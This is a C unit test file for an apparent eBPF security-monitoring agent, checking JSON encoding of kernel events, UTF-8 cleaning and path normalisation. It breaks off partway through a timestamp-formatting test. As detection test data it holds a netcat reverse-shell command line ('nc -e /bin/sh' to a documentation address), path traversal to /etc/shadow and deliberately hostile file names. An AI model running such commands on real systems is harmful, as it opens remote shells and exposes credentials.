/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * JSON encoding of every kernel record type against golden files in
 * tests/data/golden/, byte for byte.  Each output must also be one line of
 * valid JSON and valid UTF-8 with no raw control byte, whatever the kernel
 * put in its strings.  CLAWOS_UPDATE_GOLDEN=1 rewrites the golden files.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>

#include <cmocka.h>
#include <json-c/json.h>

#include "agent/event-json.h"
#include "agent/macro.h"
#include "agent/names.h"
#include "agent/utf8.h"

#ifndef CLAWOS_SOURCE_ROOT
#define CLAWOS_SOURCE_ROOT "."
#endif

/* hdr.ts_ns + offset = 2026-01-02T03:04:05.123456789Z */
#define TEST_BOOT_NS 1000000000000ULL
#define TEST_REALTIME_NS 1767323045123456789LL

static const struct event_context test_ctx = {
    .realtime_offset_ns = TEST_REALTIME_NS - (int64_t)TEST_BOOT_NS,
    .host = "testhost",
    .exe = "/usr/bin/bash",
    .cgroup_path = "/system.slice/test.service",
    .user = "alice",
    .ppid = 1,
};

static void hdr_fill(struct clawos_event_hdr *h, unsigned type, size_t size)
{
	h->type = (uint8_t)type;
	h->version = CLAWOS_ABI_VERSION;
	h->size = (uint16_t)size;
	h->cpu = 3;
	h->seq = 42;
	h->pid = 4242;
	h->tid = 4243;
	h->ppid = 4000;
	h->ts_ns = TEST_BOOT_NS;
	h->uid = 1000;
	h->gid = 1000;
	h->cgroup_id = 8421;
	memcpy(h->comm, "bash", 5);
}

/* ---- checks on any encoded line ---- */

/* Independent of agent/utf8.c: strict UTF-8 (no overlong, no surrogate). */
static bool utf8_valid(const unsigned char *s, size_t n)
{
	for (size_t i = 0; i < n;) {
		unsigned char c = s[i];
		size_t len;
		uint32_t cp;

		if (c < 0x80) {
			i++;
			continue;
		}
		if (c >= 0xc2 && c <= 0xdf)
			len = 2, cp = c & 0x1f;
		else if (c >= 0xe0 && c <= 0xef)
			len = 3, cp = c & 0x0f;
		else if (c >= 0xf0 && c <= 0xf4)
			len = 4, cp = c & 0x07;
		else
			return false;
		if (i + len > n)
			return false;
		for (size_t k = 1; k < len; k++) {
			if ((s[i + k] & 0xc0) != 0x80)
				return false;
			cp = (cp << 6) | (s[i + k] & 0x3f);
		}
		if ((len == 3 && cp < 0x800) || (len == 4 && cp < 0x10000) || cp > 0x10ffff ||
		    (cp >= 0xd800 && cp <= 0xdfff))
			return false;
		i += len;
	}
	return true;
}

static char *read_file(const char *path)
{
	FILE *f = fopen(path, "re");
	char *buf = NULL;
	size_t size = 0;

	if (!f)
		return NULL;
	FILE *m = open_memstream(&buf, &size);
	assert_non_null(m);
	for (int c; (c = fgetc(f)) != EOF;)
		fputc(c, m);
	fclose(f);
	fclose(m);
	return buf;
}

static void golden_path(const char *name, char *path, size_t size)
{
	const char *root = getenv("CLAWOS_SOURCE_ROOT") ?: CLAWOS_SOURCE_ROOT;

	snprintf(path, size, "%s/tests/data/golden/%s.json", root, name);
}

/* One writer for the whole test, reused like the agent's. */
static struct json_writer writer;
static size_t encoded_len;

static const char *event_to_json(const struct clawos_event_hdr *h, const struct event_context *ctx)
{
	return event_json(&writer, h, ctx, &encoded_len);
}

/*
 * Checks an encoded line, compares it with the golden file and returns the
 * line parsed back (for field checks).
 */
static struct json_object *check_golden(const char *name, const char *s)
{
	struct json_tokener *tok = json_tokener_new();
	struct json_object *back;
	char path[4096], *want, *got;
	size_t len = encoded_len;

	assert_non_null(s);
	assert_int_equal(len, strlen(s));
	for (size_t i = 0; i < len; i++)
		if ((unsigned char)s[i] < 0x20)
			fail_msg("%s: raw control byte 0x%02x at %zu in %s", name, (unsigned char)s[i], i, s);
	assert_true(utf8_valid((const unsigned char *)s, len));

	back = json_tokener_parse_ex(tok, s, (int)len);
	if (!back || json_tokener_get_error(tok) != json_tokener_success || json_tokener_get_parse_end(tok) != len)
		fail_msg("%s: not one JSON value: %s", name, s);
	json_tokener_free(tok);
	assert_true(json_object_is_type(back, json_type_object));

	if (asprintf(&got, "%s\n", s) < 0)
		fail();
	golden_path(name, path, sizeof(path));
	if (getenv("CLAWOS_UPDATE_GOLDEN") && strcmp(getenv("CLAWOS_UPDATE_GOLDEN"), "1") == 0) {
		FILE *f = fopen(path, "we");

		if (!f)
			fail_msg("cannot write %s: %m", path);
		fputs(got, f);
		assert_int_equal(fclose(f), 0);
	}
	want = read_file(path);
	if (!want)
		fail_msg("missing golden file %s (run with CLAWOS_UPDATE_GOLDEN=1)", path);
	if (strcmp(want, got) != 0)
		fail_msg("%s differs from the golden file\n got: %s want: %s", name, got, want);
	free(want);
	free(got);
	return back;
}

static const char *get_str(struct json_object *o, const char *a, const char *b)
{
	struct json_object *x = NULL, *y = NULL;

	if (!json_object_object_get_ex(o, a, &x))
		return NULL;
	if (!b)
		return json_object_get_string(x);
	if (!json_object_object_get_ex(x, b, &y) || !y)
		return NULL;
	return json_object_get_string(y);
}

static bool has_key(struct json_object *o, const char *a, const char *b)
{
	struct json_object *x = NULL;

	if (!json_object_object_get_ex(o, a, &x))
		return false;
	return b ? json_object_object_get_ex(x, b, NULL) : true;
}

/* ---- exec ---- */

static void exec_set_args(struct clawos_exec_event *e, const char *const *argv, unsigned argc)
{
	size_t off = 0;

	for (unsigned i = 0; i < argc; i++) {
		size_t n = strlen(argv[i]) + 1;

		assert_true(off + n <= sizeof(e->args));
		memcpy(e->args + off, argv[i], n);
		off += n;
	}
	e->args_len = (uint16_t)off;
	e->hdr.size = (uint16_t)(CLAWOS_EXEC_FIXED_SIZE + off); /* variable size */
}

static void test_exec(void **state)
{
	static const char *const argv[] = {"/bin/sh", "-c",   "echo \"hello world\" > '/tmp/a b'",
					   "",	      "it's", "back\\slash"};
	struct clawos_exec_event e = {};
	struct json_object *back, *a;

	hdr_fill(&e.hdr, CLAWOS_EV_EXEC, sizeof(e));
	snprintf(e.filename, sizeof(e.filename), "/usr/bin/dash");
	exec_set_args(&e, argv, ELEMENTSOF(argv));
	e.flags = CLAWOS_EXEC_F_ARGS_TRUNCATED;
	e.mechanism = CLAWOS_MECH_TRACEPOINT;
	e.old_tid = 4243;
	snprintf(e.cwd, sizeof(e.cwd), "/home/alice/src");
	back = check_golden("exec", event_to_json(&e.hdr, &test_ctx));
	assert_string_equal(get_str(back, "event", NULL), "exec");
	assert_string_equal(get_str(back, "time", NULL), "2026-01-02T03:04:05.123456789Z");
	assert_true(json_object_object_get_ex(json_object_object_get(back, "exec"), "argv", &a));
	assert_int_equal(json_object_array_length(a), ELEMENTSOF(argv));
	for (size_t i = 0; i < ELEMENTSOF(argv); i++)
		assert_string_equal(json_object_get_string(json_object_array_get_idx(a, i)), argv[i]);
	json_object_put(back);
}

static void test_exec_failed(void **state)
{
	static const char *const argv[] = {"nosuch"};
	struct clawos_exec_event e = {};
	struct json_object *back;

	hdr_fill(&e.hdr, CLAWOS_EV_EXEC, sizeof(e));
	e.hdr.ppid = 0; /* the context's ppid fills in */
	snprintf(e.filename, sizeof(e.filename), "/usr/local/bin/nosuch");
	exec_set_args(&e, argv, ELEMENTSOF(argv));
	e.flags = CLAWOS_EXEC_F_FAILED | CLAWOS_EXEC_F_EXECVEAT | CLAWOS_EXEC_F_CWD_TRUNCATED;
	e.ret = -ENOENT;
	e.mechanism = CLAWOS_MECH_TRACEPOINT;
	e.old_tid = 4243;
	back = check_golden("exec-failed", event_to_json(&e.hdr, &test_ctx));
	assert_string_equal(get_str(back, "exec", "error"), "ENOENT");
	assert_string_equal(get_str(back, "process", "ppid"), "1");
	json_object_put(back);
}

/* ---- file_access ---- */

/* Every byte that needs escaping or cleaning, in one kernel path. */
static const char hostile_path[] = "/tmp/q\"b\\n\nt\tesc\x1b"
				   "c\x01\x1f\x7f"
				   "|ff\xff|e2\xe2\x82x|c0\xc0\xaf|ed\xed\xa0\x80|ok\xc3\xa9\xe2\x82\xac";

static void test_file_escapes(void **state)
{
	struct clawos_file_event e = {};
	struct json_object *back;
	const char *p;

	hdr_fill(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
	memcpy(e.hdr.comm, "evil\nname\xff\x1b", 12);
	assert_true(sizeof(hostile_path) <= sizeof(e.path));
	memcpy(e.path, hostile_path, sizeof(hostile_path));
	e.path_len = sizeof(hostile_path);
	e.path_flags = CLAWOS_PATH_F_RESOLVED | CLAWOS_PATH_F_NO_RESULT;
	e.op = CLAWOS_FILE_OP_FILE_OPEN;
	e.mechanism = CLAWOS_MECH_LSM;
	e.flags = 0x8000 | 02; /* O_LARGEFILE | O_RDWR */
	e.dirfd = -100;
	back = check_golden("file-escapes", event_to_json(&e.hdr, &test_ctx));
	p = get_str(back, "file", "path");
	assert_non_null(p);
	/* escaped characters come back as themselves ... */
	assert_non_null(strstr(p, "q\"b\\n\nt\tesc\x1b"
				  "c\x01\x1f\x7f|"));
	/* ... and each invalid byte as U+FFFD */
	assert_non_null(strstr(p, "|ff\xef\xbf\xbd|"));
	assert_non_null(strstr(p, "|e2\xef\xbf\xbd\xef\xbf\xbdx|"));
	assert_non_null(strstr(p, "|c0\xef\xbf\xbd\xef\xbf\xbd|"));
	assert_non_null(strstr(p, "|ed\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd|"));
	assert_non_null(strstr(p, "|ok\xc3\xa9\xe2\x82\xac"));
	/* LSM paths are the kernel's own d_path: never rewritten */
	assert_false(has_key(back, "file", "path_raw"));
	assert_true(has_key(back, "file", "result"));
	assert_null(json_object_object_get(json_object_object_get(back, "file"), "result"));
	json_object_put(back);
}

/* A path filling the whole buffer, unterminated, ending in a cut sequence. */
static void test_file_unterminated(void **state)
{
	struct clawos_file_event e = {};
	struct json_object *back;
	const char *p;

	hdr_fill(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
	memset(e.path, 'a', sizeof(e.path));
	e.path[0] = '/';
	e.path[sizeof(e.path) - 2] = '\xe2';
	e.path[sizeof(e.path) - 1] = '\x82';
	e.path_flags = CLAWOS_PATH_F_TRUNCATED;
	e.mechanism = CLAWOS_MECH_TRACEPOINT;
	back = json_tokener_parse(event_to_json(&e.hdr, &test_ctx));
	assert_non_null(back);
	p = get_str(back, "file", "path");
	assert_int_equal(strlen(p), sizeof(e.path) - 2 + 6);
	assert_true(utf8_valid((const unsigned char *)p, strlen(p)));
	json_object_put(back);
}

static void test_file_normalized(void **state)
{
	static const char raw[] = "/etc/./x";
	struct clawos_file_event e = {};
	struct json_object *back;

	hdr_fill(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
	memcpy(e.hdr.comm, "cat", 4);
	memcpy(e.path, raw, sizeof(raw));
	e.path_len = sizeof(raw);
	e.path_flags = CLAWOS_PATH_F_RESOLVED;
	e.op = CLAWOS_FILE_OP_OPEN;
	e.mechanism = CLAWOS_MECH_TRACEPOINT;
	e.flags = 02000000; /* O_RDONLY | O_CLOEXEC */
	e.dirfd = -100;
	e.ret = 3;
	back = check_golden("file-normalized", event_to_json(&e.hdr, &test_ctx));
	assert_string_equal(get_str(back, "file", "path"), "/etc/x");
	assert_string_equal(get_str(back, "file", "path_raw"), raw);
	assert_string_equal(get_str(back, "file", "path_resolved"), "true");
	json_object_put(back);
}

static void test_file_enoent(void **state)
{
	static const char path[] = "/nonexistent/secret";
	struct clawos_file_event e = {};
	struct json_object *back;

	hdr_fill(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
	memcpy(e.path, path, sizeof(path));
	e.path_len = sizeof(path);
	e.path_flags = CLAWOS_PATH_F_OPENAT2;
	e.op = CLAWOS_FILE_OP_OPEN;
	e.mechanism = CLAWOS_MECH_TRACEPOINT;
	e.flags = 01 | 0100 | 01000 | 0x80000000u; /* O_WRONLY|O_CREAT|O_TRUNC + an unknown bit */
	e.mode = 0644;
	e.dirfd = 5;
	e.ret = -ENOENT;
	back = check_golden("file-enoent", event_to_json(&e.hdr, &test_ctx));
	assert_string_equal(get_str(back, "file", "error"), "ENOENT");
	assert_string_equal(get_str(back, "file", "result"), "-2");
	assert_string_equal(get_str(back, "file", "syscall"), "openat2");
	assert_false(has_key(back, "file", "path_raw"));
	json_object_put(back);
}

/* O_CREAT on a name that did not exist: the kernel marked it created */
static void test_file_created(void **state)
{
	static const char path[] = "/tmp/x/../payload.sh";
	struct clawos_file_event e = {};
	struct json_object *back;

	hdr_fill(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
	memcpy(e.path, path, sizeof(path));
	e.path_len = sizeof(path);
	e.path_flags = CLAWOS_PATH_F_RESOLVED | CLAWOS_PATH_F_CREATED;
	e.op = CLAWOS_FILE_OP_OPEN;
	e.mechanism = CLAWOS_MECH_TRACEPOINT;
	e.flags = 01 | 0100 | 01000; /* O_WRONLY|O_CREAT|O_TRUNC, as creat(2) */
	e.mode = 0755;
	e.dirfd = -100;
	e.ret = 3;
	back = check_golden("file-created", event_to_json(&e.hdr, &test_ctx));
	assert_string_equal(get_str(back, "file", "created"), "true");
	assert_string_equal(get_str(back, "file", "path"), "/tmp/payload.sh");
	json_object_put(back);
}

/* What was opened differs from what was asked for, in a chroot */
static void test_file_resolved(void **state)
{
	static const char path[] = "/etc/shadow", req[] = "../../../../etc/shadow", root[] = "/srv/jail";
	struct clawos_file_event e = {};
	struct json_object *back;

	hdr_fill(&e.hdr, CLAWOS_EV_FILE, CLAWOS_FILE_FIXED_SIZE + sizeof(req));
	memcpy(e.hdr.comm, "cat", 4);
	memcpy(e.path, path, sizeof(path));
	e.path_len = sizeof(path);
	memcpy(e.requested, req, sizeof(req));
	e.requested_len = sizeof(req);
	memcpy(e.root, root, sizeof(root));
	e.root_len = sizeof(root);
	e.xflags = CLAWOS_FILE_X_FROM_FILE | CLAWOS_FILE_X_IDENTITY | CLAWOS_FILE_X_ROOT;
	e.path_flags = CLAWOS_PATH_F_RESOLVED;
	e.op = CLAWOS_FILE_OP_OPEN;
	e.mechanism = CLAWOS_MECH_TRACEPOINT;
	e.flags = 02000000;
	e.dirfd = -100;
	e.ret = 3;
	back = check_golden("file-resolved", event_to_json(&e.hdr, &test_ctx));
	assert_string_equal(get_str(back, "file", "path"), path);
	assert_string_equal(get_str(back, "file", "requested_path"), req);
	assert_string_equal(get_str(back, "file", "root"), root);
	assert_string_equal(get_str(back, "file", "protected_by"), "identity");
	assert_false(has_key(back, "file", "path_raw"));
	json_object_put(back);
	/* without requested_len the tail is not read: no requested_path */
	e.requested_len = 0;
	e.xflags = CLAWOS_FILE_X_FROM_FILE;
	back = json_tokener_parse(event_to_json(&e.hdr, &test_ctx));
	assert_false(has_key(back, "file", "requested_path"));
	assert_false(has_key(back, "file", "root"));
	assert_false(has_key(back, "file", "protected_by"));
	json_object_put(back);
}

/* ---- network ---- */

static void test_network_connect4(void **state)
{
	struct clawos_net_event e = {};
	struct json_object *back;

	hdr_fill(&e.hdr, CLAWOS_EV_NET, sizeof(e));
	memcpy(e.hdr.comm, "curl", 5);
	e.addr = htonl(0xc000020a); /* 192.0.2.10 */
	e.port = htons(443);
	e.op = CLAWOS_NET_OP_CONNECT;
	e.info = CLAWOS_NET_INFO(CLAWOS_PROTO_TCP, CLAWOS_MECH_CGROUP);
	back = check_golden("network-connect4", event_to_json(&e.hdr, &test_ctx));
	assert_string_equal(get_str(back, "network", "address"), "192.0.2.10");
	assert_string_equal(get_str(back, "network", "port"), "443");
	assert_string_equal(get_str(back, "network", "side"), "remote");
	assert_string_equal(get_str(back, "mechanism", NULL), "cgroup");
	json_object_put(back);
}

static void test_network_bind6(void **state)
{
	static const uint8_t addr[16] = {0x20, 0x01, 0x0d, 0xb8, [15] = 1};
	struct clawos_net6_event e = {};
	struct json_object *back;

	hdr_fill(&e.hdr, CLAWOS_EV_NET6, sizeof(e));
	memcpy(e.hdr.comm, "nginx", 6);
	memcpy(e.addr, addr, sizeof(addr));
	e.port = htons(8080);
	e.op = CLAWOS_NET_OP_BIND;
	e.info = CLAWOS_NET_INFO(CLAWOS_PROTO_UDP, CLAWOS_MECH_LSM);
	back = check_golden("network-bind6", event_to_json(&e.hdr, &test_ctx));
	/* one JSON record type for both wire types */
	assert_string_equal(get_str(back, "event", NULL), "network");
	assert_string_equal(get_str(back, "network", "family"), "inet6");
	assert_string_equal(get_str(back, "network", "address"), "2001:db8::1");
	assert_string_equal(get_str(back, "network", "side"), "local");
	json_object_put(back);
}

static void test_network_socket_raw(void **state)
{
	struct clawos_net_event e = {};
	struct json_object *back;

	hdr_fill(&e.hdr, CLAWOS_EV_NET, sizeof(e));
	memcpy(e.hdr.comm, "ping", 5);
	e.sock.family = 2; /* AF_INET */
	e.sock.type = 3;   /* SOCK_RAW */
	e.port = 1;	   /* IPPROTO_ICMP, host order */
	e.op = CLAWOS_NET_OP_CREATE;
	e.info = CLAWOS_NET_INFO(CLAWOS_PROTO_RAW, CLAWOS_MECH_CGROUP);
	back = check_golden("network-socket-raw", event_to_json(&e.hdr, &test_ctx));
	assert_string_equal(get_str(back, "network", "op"), "socket_create");
	assert_string_equal(get_str(back, "network", "type"), "SOCK_RAW");
	assert_false(has_key(back, "network", "address"));
	json_object_put(back);
}

/* ---- cgroup, syscall, anomaly ---- */

static void test_cgroup(void **state)
{
	static const char path[] = "/system.slice/nginx.service";
	struct clawos_cgroup_event e = {};
	struct json_object *back;

	e.hdr.type = CLAWOS_EV_CGROUP;
	e.hdr.version = CLAWOS_ABI_VERSION;
	e.hdr.size = sizeof(e);
	e.hdr.cpu = CLAWOS_CPU_USER;
	e.hdr.seq = 7;
	e.hdr.ts_ns = TEST_BOOT_NS;
	e.hdr.cgroup_id = 8421;
	e.rx_packets = 10;
	e.rx_bytes = 1500;
	e.tx_packets = 20;
	e.tx_bytes = 1ULL << 40;
	e.interval_ns = 30000000000ULL;
	memcpy(e.path, path, sizeof(path));
	back = check_golden(
	    "cgroup", event_to_json(&e.hdr, &(struct event_context){.realtime_offset_ns = test_ctx.realtime_offset_ns,
								    .host = "testhost"}));
	/* synthesised by user space: no CPU, no process */
	assert_true(has_key(back, "cpu", NULL));
	assert_null(json_object_object_get(back, "cpu"));
	assert_false(has_key(back, "process", NULL));
	json_object_put(back);
}

static void test_syscall(void **state)
{
	struct clawos_syscall_event e = {};
	struct json_object *back;

	hdr_fill(&e.hdr, CLAWOS_EV_SYSCALL, sizeof(e));
	e.nr = 257; /* openat */
	e.nargs = 3;
	e.args[0] = (uint64_t)-100;
	e.args[1] = 0x7ffd12345678ULL;
	e.args[2] = 0x80000;
	e.args[3] = 0xdead; /* not captured: beyond nargs */
	e.mechanism = CLAWOS_MECH_TP_BTF;
	back = check_golden("syscall", event_to_json(&e.hdr, &test_ctx));
	assert_string_equal(get_str(back, "syscall", "name"), "openat");
	assert_int_equal(
	    json_object_array_length(json_object_object_get(json_object_object_get(back, "syscall"), "args")), 3);
	json_object_put(back);
}

static void test_anomaly(void **state)
{
	static const struct {
		uint32_t pid;
		const char *comm;
	} anc[] = {{4000, "bash"}, {3000, "sshd"}, {1, "systemd"}};
	static const struct clawos_syscall_count top[] = {{0, 4000}, {1, 800}, {999, 200}};
	struct clawos_anomaly_event e = {};
	struct event_context ctx;
	struct json_object *back, *a;

	hdr_fill(&e.hdr, CLAWOS_EV_ANOMALY, sizeof(e));
	e.hdr.cpu = CLAWOS_CPU_USER;
	e.kind = CLAWOS_ANOMALY_SYSCALL_RATE;
	e.severity = CLAWOS_SEV_HIGH;
	e.flags = 0;
	e.suppressed = 2;
	e.observed = 5000;
	e.threshold = 1000;
	e.mechanism = CLAWOS_MECH_USER;
	snprintf(e.rule, sizeof(e.rule), "syscall_rate");
	snprintf(e.description, sizeof(e.description), "5000 syscalls/s exceeds the threshold of 1000/s");
	e.ancestry_len = ELEMENTSOF(anc);
	for (size_t i = 0; i < ELEMENTSOF(anc); i++) {
		e.ancestry[i].pid = anc[i].pid;
		snprintf(e.ancestry[i].comm, sizeof(e.ancestry[i].comm), "%s", anc[i].comm);
	}
	e.top_len = ELEMENTSOF(top);
	memcpy(e.top, top, sizeof(top));
	/* the target and the ancestors' executables come from user space */
	ctx = test_ctx;
	ctx.target_name = "agent-7";
	ctx.target_root_pid = 3999;
	ctx.target_session = 17;
	ctx.ancestry_exe[0] = "/usr/bin/bash";
	ctx.ancestry_exe[1] = "/usr/sbin/sshd";
	back = check_golden("anomaly", event_to_json(&e.hdr, &ctx));
	a = json_object_object_get(back, "anomaly");
	assert_int_equal(json_object_array_length(json_object_object_get(a, "ancestry")), 3);
	assert_int_equal(json_object_array_length(json_object_object_get(a, "top_syscalls")), 3);
	assert_string_equal(get_str(back, "anomaly", "severity"), "high");
	assert_string_equal(get_str(back, "target", "name"), "agent-7");
	assert_null(json_object_object_get(a, "subject"));
	assert_string_equal(json_object_get_string(json_object_object_get(
				json_object_array_get_idx(json_object_object_get(a, "ancestry"), 1), "exe")),
			    "/usr/sbin/sshd");
	json_object_put(back);
}

static void test_anomaly_file_violation(void **state)
{
	struct clawos_anomaly_event e = {};
	struct json_object *back;

	hdr_fill(&e.hdr, CLAWOS_EV_ANOMALY, sizeof(e));
	e.kind = CLAWOS_ANOMALY_FILE_VIOLATION;
	e.severity = CLAWOS_SEV_CRITICAL;
	e.flags = CLAWOS_ANOMALY_F_ENFORCED;
	e.observed = 1;
	e.threshold = 0;
	e.mechanism = CLAWOS_MECH_LSM;
	snprintf(e.rule, sizeof(e.rule), "protected_path");
	snprintf(e.description, sizeof(e.description), "write to a protected file");
	snprintf(e.subject, sizeof(e.subject), "/etc/shadow");
	back = check_golden("anomaly-file-violation", event_to_json(&e.hdr, &test_ctx));
	assert_string_equal(get_str(back, "anomaly", "subject"), "/etc/shadow");
	assert_string_equal(get_str(back, "anomaly", "enforced"), "true");
	assert_false(has_key(back, "anomaly", "top_syscalls"));
	assert_false(has_key(back, "target", NULL));
	json_object_put(back);
}

/* A Sigma hit: rule and trigger come from user space, beyond the wire
 * record's fields (a rule id is longer than the wire's 31 bytes). */
static void test_anomaly_sigma(void **state)
{
	static const char *const tags[] = {"attack.execution", "attack.t1059.004"};
	static const char *const names[] = {"Image", "CommandLine"};
	/* a value is bounded by its length, not by a NUL */
	static const char *const values[] = {"/usr/bin/nc", "nc -e /bin/sh 192.0.2.1 4444 and more"};
	static const uint32_t lens[] = {11, 28};
	struct event_sigma sg = {
	    .id = "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871",
	    .title = "Linux Reverse Shell Indicator",
	    .level = "critical",
	    .status = "test",
	    .category = "process_creation",
	    .file = "/etc/clawos-ebpf/sigma/rev.yml",
	    .tags = tags,
	    .n_tags = ELEMENTSOF(tags),
	    .matched_names = names,
	    .matched_values = values,
	    .matched_lens = lens,
	    .n_matched = ELEMENTSOF(names),
	    .subject = "/usr/bin/nc",
	    .trigger_event = "exec",
	    .trigger_cpu = 1,
	    .trigger_seq = 777,
	};
	struct clawos_anomaly_event e = {};
	struct event_context ctx = test_ctx;
	struct json_object *back, *sigma;

	hdr_fill(&e.hdr, CLAWOS_EV_ANOMALY, sizeof(e));
	e.hdr.cpu = CLAWOS_CPU_USER;
	e.kind = CLAWOS_ANOMALY_SIGMA;
	e.severity = CLAWOS_SEV_CRITICAL;
	e.mechanism = CLAWOS_MECH_USER;
	snprintf(e.rule, sizeof(e.rule), "%s", sg.id); /* cut: the JSON has it whole */
	snprintf(e.description, sizeof(e.description), "%s", sg.title);
	e.ancestry_len = 1;
	e.ancestry[0].pid = 4000;
	snprintf(e.ancestry[0].comm, sizeof(e.ancestry[0].comm), "bash");
	ctx.sigma = &sg;
	back = check_golden("anomaly-sigma", event_to_json(&e.hdr, &ctx));
	assert_string_equal(get_str(back, "anomaly", "kind"), "sigma");
	assert_string_equal(get_str(back, "anomaly", "rule"), "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871");
	assert_string_equal(get_str(back, "anomaly", "subject"), "/usr/bin/nc");
	sigma = json_object_object_get(json_object_object_get(back, "anomaly"), "sigma");
	assert_string_equal(
	    json_object_get_string(json_object_object_get(json_object_object_get(sigma, "matched"), "CommandLine")),
	    "nc -e /bin/sh 192.0.2.1 4444");
	assert_int_equal(json_object_get_int(json_object_object_get(
			     json_object_object_get(json_object_object_get(back, "anomaly"), "trigger"), "seq")),
			 777);
	json_object_put(back);
	/* without its context (a fuzzed or foreign record) it is still one object */
	ctx.sigma = NULL;
	back = json_tokener_parse(event_to_json(&e.hdr, &ctx));
	assert_non_null(back);
	assert_string_equal(get_str(back, "anomaly", "rule"), "83dcd9f6-9ca8-4af7-a16e-a1c7a6b"); /* 31 bytes */
	assert_null(json_object_object_get(json_object_object_get(back, "anomaly"), "sigma"));
	json_object_put(back);
}

/* ---- process lifecycle ---- */

static void test_process_fork_exit(void **state)
{
	struct clawos_proc_event e = {};
	struct json_object *back;

	hdr_fill(&e.hdr, CLAWOS_EV_PROC, sizeof(e));
	e.op = CLAWOS_PROC_FORK;
	e.child_pid = 4300;
	back = check_golden("process-fork", event_to_json(&e.hdr, &test_ctx));
	assert_string_equal(get_str(back, "lifecycle", "op"), "fork");
	assert_string_equal(get_str(back, "lifecycle", "child_pid"), "4300");
	json_object_put(back);

	e.op = CLAWOS_PROC_EXIT;
	e.child_pid = 0;
	e.exit_code = 3 << 8; /* exit(3) */
	back = check_golden("process-exit", event_to_json(&e.hdr, &test_ctx));
	assert_string_equal(get_str(back, "lifecycle", "exit_code"), "3");
	assert_false(has_key(back, "lifecycle", "signal"));
	json_object_put(back);

	e.exit_code = 9; /* killed by SIGKILL */
	back = check_golden("process-killed", event_to_json(&e.hdr, &test_ctx));
	assert_string_equal(get_str(back, "lifecycle", "signal"), "9");
	assert_false(has_key(back, "lifecycle", "exit_code"));
	json_object_put(back);
}

/* ---- helpers of the encoder ---- */

static void test_utf8_clean(void **state)
{
	static const struct {
		const char *in;
		size_t len;
		const char *out;
		bool changed;
	} cases[] = {
	    {"plain", 5, "plain", false},
	    {"caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x90\xa7", 14, "caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x90\xa7", false},
	    {"a\xff"
	     "b",
	     3,
	     "a\xef\xbf\xbd"
	     "b",
	     true},
	    {"\xe2\x82", 2, "\xef\xbf\xbd\xef\xbf\xbd", true},		       /* truncated 3-byte */
	    {"\xe2\x82x", 3, "\xef\xbf\xbd\xef\xbf\xbdx", true},	       /* cut by an ASCII byte */
	    {"\xc0\xaf", 2, "\xef\xbf\xbd\xef\xbf\xbd", true},		       /* overlong '/' */
	    {"\xe0\x80\xaf", 3, "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd", true}, /* overlong 3-byte */
	    {"\xed\xa0\x80", 3, "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd", true}, /* surrogate */
	    {"\xf4\x90\x80\x80", 4, "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd", true}, /* > U+10FFFF */
	    {"\x80", 1, "\xef\xbf\xbd", true},						       /* lone continuation */
	    {"ab\0cd", 5, "ab", false},							       /* stops at NUL */
	    {"abcdef", 3, "abc", false},						       /* stops at len */
	    {"\x1b[31m\n", 6, "\x1b[31m\n", false}, /* control bytes are JSON's job */
	};

	for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
		char out[64];
		bool changed = !cases[i].changed;
		size_t n = utf8_clean(cases[i].in, cases[i].len, out, sizeof(out), &changed);

		assert_int_equal(n, strlen(cases[i].out));
		assert_memory_equal(out, cases[i].out, n + 1);
		assert_int_equal(changed, cases[i].changed);
	}
}

static void test_utf8_clean_small_buffer(void **state)
{
	char out[8];
	size_t n;

	/* never cuts a character: "€€€" needs 10 bytes */
	n = utf8_clean("\xe2\x82\xac\xe2\x82\xac\xe2\x82\xac", 9, out, sizeof(out), NULL);
	assert_int_equal(n, 6);
	assert_string_equal(out, "\xe2\x82\xac\xe2\x82\xac");
	n = utf8_clean("\xff\xff\xff", 3, out, 4, NULL);
	assert_int_equal(n, 3);
	assert_string_equal(out, "\xef\xbf\xbd");
	n = utf8_clean("\xff\xff\xff", 3, out, 3, NULL);
	assert_int_equal(n, 0);
	assert_string_equal(out, "");
	n = utf8_clean("abc", 3, out, 0, NULL);
	assert_int_equal(n, 0);
	/* the worst case fits in 3 * len + 1 */
	{
		char bad[16], big[3 * sizeof(bad) + 1];

		memset(bad, 0xff, sizeof(bad));
		n = utf8_clean(bad, sizeof(bad), big, sizeof(big), NULL);
		assert_int_equal(n, 3 * sizeof(bad));
	}
}

static void test_path_normalize(void **state)
{
	static const struct {
		const char *in, *out;
	} cases[] = {
	    {"/", "/"},
	    {"/.", "/"},
	    {"/..", "/"},
	    {"/etc/./x", "/etc/x"},
	    {"/etc//x", "/etc/x"},
	    {"/etc/x/", "/etc/x"},
	    {"/a/b/../c", "/a/c"},
	    {"/a/b/../../c", "/c"},
	    {"/a/../../../c", "/c"},
	    {"/home/u/./../u/.ssh/./id", "/home/u/.ssh/id"},
	    {"/a/...", "/a/..."},
	    {"/a/..b/.c", "/a/..b/.c"},
	    {"//srv///data//", "/srv/data"},
	};
	char out[64];

	for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
		assert_int_equal(path_normalize(cases[i].in, out, sizeof(out)), 0);
		assert_string_equal(out, cases[i].out);
	}
	assert_int_equal(path_normalize("relative/x", out, sizeof(out)), -EINVAL);
	assert_int_equal(path_normalize("", out, sizeof(out)), -EINVAL);
	assert_int_equal(path_normalize("/", out, 1), -EINVAL);
	assert_int_equal(path_normalize("/abcdefgh", out, 8), -ENAMETOOLONG);
	assert_int_equal(path_normalize("/abcdef", out, 8), 0);
	assert_string_equal(out, "/abcdef");
}

static void test_format_rfc3339(void **state)
{
	char buf[40];

